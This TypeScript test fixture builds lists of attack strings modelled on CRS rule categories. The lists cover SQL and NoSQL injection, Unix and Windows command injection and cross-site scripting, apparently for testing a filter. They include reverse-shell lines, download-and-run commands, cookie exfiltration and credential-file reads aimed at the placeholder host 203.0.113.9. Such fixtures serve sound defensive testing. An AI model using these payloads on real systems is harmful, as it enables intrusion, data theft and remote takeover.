/**
 * Attack strings in the shapes of CRS' categories, written for these tests: what a device would send so that something
 * behind a subscriber (a database, a shell, an operator's browser) does what it should not.
 */

/** Each of `left` with each of `right`. */
function product(
  left: readonly string[],
  right: readonly string[],
  join: (l: string, r: string) => string,
): string[] {
  return left.flatMap((l) => right.map((r) => join(l, r)));
}

const tautologies = product(
  [
    "' or 1=1",
    "' OR '1'='1",
    '" or ""="',
    "') or ('1'='1",
    "1' or 1=1",
    "x' oR 2>1",
    "admin' or 'a' like 'a",
  ],
  ["--", "-- -", "#", "/*", ";--"],
  (condition, end) => condition + end,
);

const unions = product(
  ["1 union select", "1' UNION ALL SELECT", "-1) union/**/select", "0 UnIoN DiStInCt SeLeCt"],
  [
    " null,null--",
    " 1,2,3 from users",
    " username,password from accounts--",
    " table_name from information_schema.tables",
    " @@version,2",
    " load_file('/etc/passwd')",
  ],
  (union, columns) => union + columns,
);

const sqlStatements = [
  "1; DROP TABLE readings",
  "1'; drop table sensors; --",
  "21.5'; exec xp_cmdshell('dir'); --",
  "1; exec master..xp_cmdshell 'ping 203.0.113.9'",
  "'; insert into users values ('x','y')--",
  "1' ; update users set password='x' where 'a'='a",
  "1;delete from logs where 1=1--",
  "'; shutdown --",
  "1' and sleep(10)--",
  "1 and sleep(5)#",
  "1' or sleep(3) and '1'='1",
  "1 or benchmark(5000000,md5(1))",
  "1; waitfor delay '0:0:10'--",
  "1') waitfor delay '0:0:5'--",
  "1' and pg_sleep(5)--",
  "1;select pg_sleep(10)",
  "1 and extractvalue(1,concat(0x7e,version()))",
  "1' and updatexml(1,concat(0x7e,(select user())),1)--",
  "1 and (select count(*) from information_schema.tables)>0",
  "1' and ascii(substring((select database()),1,1))>64--",
  "1' and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)--",
  "1' group by 1 having 1=1--",
  "1' having 1=1--",
  "1 order by 100--",
  "' procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)--",
  "1' into outfile '/var/www/x.php'--",
  "1 union select 1 into dumpfile '/tmp/x'",
  "1' and 1=(select top 1 name from sysobjects)--",
  "1' and exists(select * from msysobjects)--",
  "select * from users where name = 'a' or 1=1",
  "SELECT password FROM users WHERE id = 1; --",
  "'; declare @q varchar(99); set @q = 0x73656c656374; exec(@q)--",
  "1' AND if(1=1,sleep(2),0)--",
  "1' and case when 1=1 then sleep(1) else 0 end--",
  "1'||(select utl_http.request('http://203.0.113.9/') from dual)||'",
  "1'||dbms_pipe.receive_message('a',5)||'",
  "x'; copy (select '') to program 'id'--",
  "1/**/and/**/1=1/**/union/**/select/**/1",
  "1 /*!50000union*/ /*!50000select*/ 1,2",
  "1' rlike sleep(5)--",
  "a' in (select password from users)--",
  "%27%20or%201%3D1--",
  "%2527%2520or%25201=1--",
];

/** NoSQL and other query languages. */
const otherQueries = [
  "'; return this.a != 'x'; var b='",
  "[$ne]",
  "[$gt]",
  "a' || '1'=='1",
  "user[$regex]=.*",
];

const commands = [
  "cat /etc/passwd",
  "cat /etc/shadow",
  "uname -a",
  "wget http://203.0.113.9/x.sh",
  "curl http://203.0.113.9/x | sh",
  "nc -e /bin/sh 203.0.113.9 4444",
  "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
  "rm -rf /tmp/x",
  "chmod 777 /tmp/x",
  "python -c 'import os'",
];

const shells = product(["; ", "| ", "&& ", "|| ", "`", "$("], commands, (start, command) =>
  start === "`" ? `\`${command}\`` : start === "$(" ? `$(${command})` : `21.5${start}${command}`,
);

const windows = [
  "& dir c:\\",
  "| type c:\\windows\\win.ini",
  "&& net user intruder secret /add",
  "& ipconfig /all",
  "| ping -n 10 203.0.113.9",
  "& certutil -urlcache -f http://203.0.113.9/x.exe x.exe",
  "; powershell -nop -w hidden -c iex(new-object net.webclient).downloadstring('http://203.0.113.9/a')",
  "powershell.exe -enc ZQBjAGgAbwA=",
  "& tasklist /v",
  "| whoami /priv",
  "& for /f %i in ('dir /b') do echo %i",
  "& if exist c:\\boot.ini del c:\\boot.ini",
  "cmd.exe /c dir",
  "& systeminfo",
  "| reg query hklm\\software",
];

const shellForms = [
  "() { :;}; echo vulnerable",
  "() { _; } >_[$($())] { cat /etc/passwd; }",
  "cat /etc/passwd",
  "uname -a",
  "wget http://203.0.113.9/bot -O /tmp/bot",
  "curl -o /tmp/x http://203.0.113.9/x",
  "/bin/cat /etc/hosts",
  "c'a't /etc/passwd",
  'w"g"et http://203.0.113.9/x',
  "ls -la /",
  "ping -c 10 203.0.113.9",
  "nc -lvp 4444",
  "perl -e 'print 1'",
  "php -r 'phpinfo();'",
  "ruby -rsocket -e 1",
  "/usr/bin/id",
  "/usr/local/bin/python3 -c 1",
  "../../../../etc/passwd",
  "/etc/passwd",
  "/proc/self/environ",
  "/etc/ssh/sshd_config",
  "$(/bin/sleep 5)",
  "<(cat /etc/passwd)",
  "$IFS;cat$IFS/etc/passwd",
  "if [ -f /etc/passwd ]; then cat /etc/passwd; fi",
  "while true; do echo x; done",
  "a;busybox wget http://203.0.113.9/m",
  "a;/bin/busybox telnetd -p 9999",
  ";cd /tmp;wget http://203.0.113.9/mips;chmod +x mips;./mips",
  "`busybox tftp -g 203.0.113.9`",
  "system('cat /etc/passwd')",
];

const handlers = product(
  ["img", "svg", "body", "input", "video", "details", "iframe", "div", "audio", "table", "button"],
  ["onerror=alert(1)", "onload=alert(1)", "onclick=alert(1)", "onmouseover=alert(1)"],
  (tag, handler) => `<${tag} src=x ${handler}>`,
);

const scripts = product(
  [
    "<script>",
    "<SCRIPT type=text/javascript>",
    "<script src=//203.0.113.9/x.js>",
    "</title><script>",
    '"><script>',
    "'-->\"><script >",
  ],
  [
    "alert(1)</script>",
    "alert(document.cookie)</script>",
    "fetch('//203.0.113.9/'+document.cookie)</script>",
  ],
  (open, code) => open + code,
);

const markup = [
  "<a href=javascript:alert(1)>x</a>",
  "<a href='jav&#x09;ascript:alert(1)'>x</a>",
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  "javascript:alert(1)",
  "vbscript:msgbox(1)",
  "<iframe src=javascript:alert(1)></iframe>",
  "<object data=javascript:alert(1)>",
  "<embed src=javascript:alert(1)>",
  "<base href=//203.0.113.9/>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//203.0.113.9/x.css>",
  "<style>@import'//203.0.113.9/x.css'</style>",
  '<div style="background:url(javascript:alert(1))">',
  '<div style="width:expression(alert(1))">',
  "<form action=javascript:alert(1)><input type=submit>",
  "<isindex action=javascript:alert(1) type=image>",
  "<math><a xlink:href=javascript:alert(1)>x</a></math>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<applet code=x.class>",
  "<xml id=x><a b='x'></xml>",
  "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<ScRiPt>prompt(1)</ScRiPt>",
  "<script\n>alert(1)</script\n>",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "&lt;script&gt;alert(1)&lt;/script&gt;<script>1</script>",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  '" onfocus=alert(1) autofocus x="',
  "' onmouseover='alert(1)",
  "eval(String.fromCharCode(97,108,101,114,116))",
  "document.cookie",
  "window.location='//203.0.113.9'",
  "document.write('<img src=x>')",
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<b onwheel=alert(1)>x",
  "<x onclick=alert(1)>x",
  "{{constructor.constructor('alert(1)')()}}<script>x</script>",
  "[].constructor.constructor('alert(1)')()",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
];

export const attacks: Readonly<Record<string, readonly string[]>> = {
  "SQL injection: tautologies": tautologies,
  "SQL injection: unions": unions,
  "SQL injection: statements": sqlStatements,
  "injection in other queries": otherQueries,
  "commands behind a value": shells,
  "commands for Windows": windows,
  "commands by themselves": shellForms,
  "scripts: event handlers": handlers,
  "scripts: elements": scripts,
  "scripts: other markup": markup,
};
